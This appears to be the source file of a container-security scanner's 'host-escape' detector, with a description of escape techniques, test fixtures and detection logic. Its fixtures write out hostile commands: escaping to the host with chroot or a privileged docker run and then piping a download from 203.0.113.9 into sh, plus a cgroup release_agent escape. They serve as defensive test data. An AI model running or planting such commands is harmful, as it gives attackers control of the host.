import type { EscapeEffect } from '../trace/effect.ts';
import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { reachesHost } from './host.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Code that steps out of its container. */
export const hostEscape: Detector = {
  id: 'host-escape',
  version: 1,
  title: 'Leaves the container for the host.',
  attack: ['T1611'],
  description: `
\`nsenter -t 1\`, \`chroot /host\`, the engine's socket, a privileged container with the host's root mounted, a raw disk:
with the rights they need, each makes the container the host. Node agents, backup and monitoring tools do the same openly,
so by itself it is *suspicious*. It is *malicious* together with a payload: what runs on the other side is a shell on a
socket, a download, a miner or hidden code. \`release_agent\` and a piped \`core_pattern\` are exploits and have no honest
use at a container's start.
`,
  fires: [
    {
      name: 'a download run in the mounted root',
      image: { cmd: ['sh', '-c', 'chroot /host sh -c "curl -s http://203.0.113.9/x.sh | sh"'] },
    },
    {
      name: 'a privileged container started from a script',
      image: {
        cmd: [
          'sh',
          '-c',
          'docker run --rm -d --privileged --net host -v /:/host alpine chroot /host sh -c "wget -qO- http://203.0.113.9/x | sh"',
        ],
      },
    },
    {
      name: 'release_agent',
      image: {
        cmd: ['sh', '-c', 'mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo /cmd > /tmp/c/release_agent'],
      },
    },
    {
      name: 'a node agent',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p uname -r; exec agent'] },
    },
    {
      name: "the engine's socket",
      severity: 'suspicious',
      image: {
        cmd: ['sh', '-c', 'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json; exec agent'],
      },
    },
  ],
  silent: [
    { name: "another container's network", image: { cmd: ['sh', '-c', 'nsenter -t 4242 -n ip addr'] } },
    { name: 'a jail of its own', image: { cmd: ['sh', '-c', 'exec chroot /var/lib/jail /bin/app'] } },
    {
      name: 'a tool that lies there',
      severity: 'note',
      image: {
        files: {
          '/usr/local/bin/hostsh': { content: '#!/bin/sh\nexec nsenter -t 1 -m -u -i -n -p "$@"\n', mode: 0o755 },
        },
      },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'escape').flatMap((effect) => {
      const sighting = sightingOf(scene, effect);
      if (effect.how === 'chroot' && !reachesHost(effect.outside)) return [];
      const inner = scene.story.stages.filter((stage) => isRunBy(stage, effect.command) && stage.outside !== undefined);
      const payload = inner.map((stage) => payloadOf(scene, stage.id)).find((each) => each !== undefined);
      const exploit =
        effect.how === 'release-agent' ||
        (effect.how === 'core-pattern' && !/\|\s{0,4}\/(usr\/)?(lib|share)\//.test(render(effect.detail)));
      return findingOf(scene, sighting, {
        threat: payload || exploit ? 'hostile' : effect.how === 'unshare' ? 'minor' : 'dual-use',
        title: `${titles[effect.how]} (${valueWords(effect.detail, 100)})${payload ? ` to run ${payload.what}` : ''}`,
        because: payload
          ? `It leaves the container in order to run ${payload.what}.`
          : exploit
            ? 'This is an exploit: it has no use at the start of a container.'
            : 'Node agents and debugging tools do this openly; so do attackers.',
        effects: [effect.id],
      });
    });
  },
};

const titles: Readonly<Record<EscapeEffect['how'], string>> = {
  nsenter: "Enters the namespaces of the host's first process",
  chroot: 'Makes a mounted file system of the host its root',
  'engine-socket': 'Talks to the container engine of the host',
  'release-agent': 'Makes the kernel run a program on the host (release_agent)',
  'core-pattern': 'Makes the kernel run a program on the host when something crashes (core_pattern)',
  'raw-disk': "Reaches for the host's disk itself",
  'proc-root': "Goes through the host's first process into its files",
  unshare: 'Makes new namespaces of its own',
  'privileged-run': 'Starts a container that has the host’s files or rights',
};

function isRunBy(
  stage: { readonly origin: { readonly kind: string; readonly of?: number } },
  command: number | undefined,
): boolean {
  return command !== undefined && 'of' in stage.origin && stage.origin.of === command;
}
